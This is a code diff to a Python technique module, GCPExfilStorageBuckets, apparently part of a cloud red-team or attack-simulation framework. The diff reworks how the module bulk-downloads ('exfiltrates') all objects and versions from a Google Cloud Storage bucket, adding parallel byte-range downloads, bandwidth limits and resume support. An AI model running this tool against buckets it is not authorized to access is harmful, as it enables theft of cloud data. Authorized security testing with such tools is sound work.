@@ -6,10 +6,10 @@ import os
 import datetime
 import json
 import base64
-from concurrent.futures import ThreadPoolExecutor, as_completed
 
 from core.gcp.gcp_access import GCPAccess
 from core.Constants import OUTPUT_DIR
+from core.transfer.download_engine import DownloadEngine, DownloadTask
 from google.cloud import storage
 from google.oauth2.service_account import Credentials as ServiceAccountCredentials
 from google.auth.transport.requests import Request
@@ -38,6 +38,12 @@ class GCPExfilStorageBuckets(BaseTechnique):
             TechniqueNote(
                 "Downloads are multi-threaded - adjust max_workers based on system resources"
             ),
+            TechniqueNote(
+                "Large objects are downloaded in parallel byte ranges. Use bandwidth_limit to cap the download rate"
+            ),
+            TechniqueNote(
+                "Set resume_path to a previous download path to skip objects already downloaded"
+            ),
             TechniqueNote(
                 "Downloaded files maintain original folder structure for easier analysis"
             ),
@@ -82,24 +88,19 @@ class GCPExfilStorageBuckets(BaseTechnique):
             notes=technique_notes
         )
 
-    def _download_blob(self, blob: storage.Blob, local_path: str, progress_dict: Dict) -> Tuple[bool, str]:
-        """Downloads a single blob with error handling"""
-        try:
-            # Create directory structure if it doesn't exist
-            os.makedirs(os.path.dirname(local_path), exist_ok=True)
-            
-            # Download the blob
-            blob.download_to_filename(local_path)
-            
-            # Update progress tracking
-            progress_dict['success'] += 1
-            progress_dict['downloaded_size'] += blob.size
-            
-            return True, ""
-            
-        except Exception as e:
-            progress_dict['failed'] += 1
-            return False, str(e)
+    def _blob_task(self, blob: storage.Blob, local_path: str) -> DownloadTask:
+        """Returns the download task of a blob, reading byte ranges of the blob's generation"""
+        def fetch(start: int = None, end: int = None) -> List[bytes]:
+            # end is inclusive for both the engine and download_as_bytes
+            return [blob.download_as_bytes(start=start, end=end)]
+
+        return DownloadTask(
+            key=f"{blob.name}#{blob.generation}",
+            local_path=local_path,
+            fetch=fetch,
+            size=blob.size,
+            version=str(blob.generation)
+        )
 
     def _filter_blobs(self, blobs: List[storage.Blob], path: str = None, 
                      download_limit: int = None, generation: int = None, versioned: bool = False) -> List[storage.Blob]:
@@ -132,7 +133,9 @@ class GCPExfilStorageBuckets(BaseTechnique):
             bucket_name: str = kwargs.get("bucket_name")
             path: str = kwargs.get("path")
             download_limit: int = kwargs.get("download_limit")
-            max_workers: int = kwargs.get("max_workers", 10)
+            max_workers: int = kwargs.get("max_workers", 10) or 10
+            bandwidth_limit: int = kwargs.get("bandwidth_limit", None)
+            resume_path: str = kwargs.get("resume_path", None)
             generation: int = int(kwargs['generation']) if kwargs['generation'] else None
             all_versions: bool = kwargs.get("all_versions", False)
 
@@ -189,53 +192,45 @@ class GCPExfilStorageBuckets(BaseTechnique):
             # Filter blobs based on folder path and limit
             filtered_blobs = self._filter_blobs(blobs, path, download_limit, generation, version_enabled)
             
-            # Create download directory with timestamp in a cross-platform way
-            dt_stamp = datetime.datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
-            base_download_path = os.path.join(OUTPUT_DIR, "gcp_storage_download", bucket_name, dt_stamp)
+            # Create download directory with timestamp in a cross-platform way, or continue a previous download
+            if resume_path:
+                base_download_path = resume_path
+            else:
+                dt_stamp = datetime.datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
+                base_download_path = os.path.join(OUTPUT_DIR, "gcp_storage_download", bucket_name, dt_stamp)
             os.makedirs(base_download_path, exist_ok=True)
 
-            # Progress tracking
-            progress = {
-                'success': 0,
-                'failed': 0,
-                'downloaded_size': 0
-            }
-
-            # Download blobs using thread pool
-            with ThreadPoolExecutor(max_workers=max_workers) as executor:
-                futures = []
-                
-                for blob in filtered_blobs:
-                    if version_enabled :
-                        name, format = os.path.splitext(blob.name)
-                        filename = f"{name}-{blob.generation}{format}"
-                        local_path = os.path.join(base_download_path, filename)
-                    else :
-                        local_path = os.path.join(base_download_path, blob.name)
-                    future = executor.submit(
-                        self._download_blob,
-                        blob,
-                        local_path,
-                        progress
-                    )
-                    futures.append(future)
+            download_tasks = []
+            for blob in filtered_blobs:
+                if version_enabled :
+                    name, format = os.path.splitext(blob.name)
+                    filename = f"{name}-{blob.generation}{format}"
+                    local_path = os.path.join(base_download_path, filename)
+                else :
+                    local_path = os.path.join(base_download_path, blob.name)
+                download_tasks.append(self._blob_task(blob, local_path))
 
-                # Wait for all downloads to complete
-                for future in as_completed(futures):
-                    # Handle any exceptions from the threads
-                    future.result()
+            # Download blobs concurrently, large blobs in parallel byte ranges
+            engine = DownloadEngine(
+                base_download_path,
+                max_workers=max_workers,
+                max_bytes_per_second=bandwidth_limit * 1024 * 1024 if bandwidth_limit else None
+            )
+            transfer_stats = engine.download(download_tasks)
 
-            return ExecutionStatus.SUCCESS, {
+            return ExecutionStatus.SUCCESS if transfer_stats["failed"] == 0 else ExecutionStatus.PARTIAL_SUCCESS, {
                 "message": "Successfully exfiltrated GCP storage bucket",
                 "value": {
                     "bucket_name": bucket_name,
                     "objects_found": len(filtered_blobs),
-                    "downloaded": progress['success'],
-                    "failed": progress['failed'],
-                    "total_size_bytes": progress['downloaded_size'],
+                    "downloaded": transfer_stats["downloaded"],
+                    "skipped": transfer_stats["skipped"],
+                    "failed": transfer_stats["failed"],
+                    "total_size_bytes": transfer_stats["bytes"],
                     "download_path": base_download_path,
                     "folder_filtered": bool(path),
-                    "download_limited": bool(download_limit)
+                    "download_limited": bool(download_limit),
+                    "transfer_stats": transfer_stats
                 }
             }
 
@@ -289,4 +284,18 @@ class GCPExfilStorageBuckets(BaseTechnique):
                 "name": "All Versions",
                 "input_field_type": "bool"
             },
+            "bandwidth_limit": {
+                "type": "int",
+                "required": False,
+                "default": None,
+                "name": "Bandwidth Limit (MB/s)",
+                "input_field_type": "number"
+            },
+            "resume_path": {
+                "type": "str",
+                "required": False,
+                "default": None,
+                "name": "Resume Download Path",
+                "input_field_type": "text"
+            },
         }
\ No newline at end of file